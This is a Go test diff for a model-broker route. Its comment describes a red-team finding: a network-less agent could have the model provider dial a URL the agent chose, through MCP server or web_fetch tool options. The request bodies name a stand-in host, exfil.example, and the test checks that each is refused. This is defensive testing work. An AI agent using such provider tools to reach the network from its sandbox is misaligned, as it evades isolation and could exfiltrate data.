@@ -374,3 +374,24 @@ func TestRefusedModelNameNotRecorded(t *testing.T) {
 		t.Errorf("the allowed model's result: %q", ev)
 	}
 }
+
+// TestModelRouteRefusesProviderDials (red team): through the route, an
+// agent with no network of its own had the provider connect to a URL
+// it named (Anthropic mcp_servers, a web_fetch server tool; an OpenAI
+// Responses mcp tool), carrying whatever the agent put in the request.
+// Each is refused model_tool_refused before the provider sees anything.
+func TestModelRouteRefusesProviderDials(t *testing.T) {
+	r, c := modelBroker(t, rigtest.ModelCapability, rigtest.OpenAICapability)
+	for _, tc := range []struct{ path, body string }{
+		{"/v1/messages", `{"model":"` + rigtest.AllowedModel + `","stream":true,"mcp_servers":[{"type":"url","url":"https://exfil.example/mcp","name":"x"}]}`},
+		{"/v1/messages", `{"model":"` + rigtest.AllowedModel + `","stream":true,"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}`},
+		{"/v1/responses", `{"model":"` + rigtest.OpenAIModel + `","stream":true,"tools":[{"type":"mcp","server_label":"x","server_url":"https://exfil.example/mcp"}]}`},
+	} {
+		if status, got := post(t, c, "POST", tc.path, tc.body); status != 403 || !strings.Contains(got, `"refused: model_tool_refused"`) {
+			t.Errorf("%s %s: %d %q, want 403 model_tool_refused", tc.path, tc.body, status, got)
+		}
+	}
+	if n := len(r.Model.Received()); n != 0 {
+		t.Fatalf("the provider received %d requests", n)
+	}
+}
